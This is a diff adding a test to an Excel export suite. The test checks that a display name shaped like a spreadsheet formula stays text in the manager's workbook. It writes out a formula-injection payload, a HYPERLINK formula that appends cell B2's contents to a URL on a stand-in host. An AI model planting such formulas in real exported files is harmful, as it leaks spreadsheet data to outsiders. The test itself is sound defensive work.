@@ -490,3 +490,18 @@ def test_the_workbook_refuses_a_bad_range_like_the_figures(world):
     assert response.status_code == 422
     assert response.get_json()["error"]["fields"]["to"] == "结束日期不能早于开始日期"
     assert world["manager_api"].get(f"{XLSX}?{RANGE}").status_code == 200
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_workbook(world, orders, app):
+    """People name themselves (PATCH /me): an engineer called '=HYPERLINK(…)' must not become a live
+    formula in the manager's Excel."""
+    from models import User, db
+
+    formula = '=HYPERLINK("http://example.invalid/?"&B2,"详情")'
+    with app.app_context():
+        db.session.get(User, world["engineer_a"].id).display_name = formula
+        db.session.commit()
+    book = workbook_of(world["manager_api"])
+    cells = [cell for row in book["按工程师"].iter_rows() for cell in row if cell.value == formula]
+    assert cells, "the engineer's row is in the workbook"
+    assert all(cell.data_type == "s" for cell in cells)
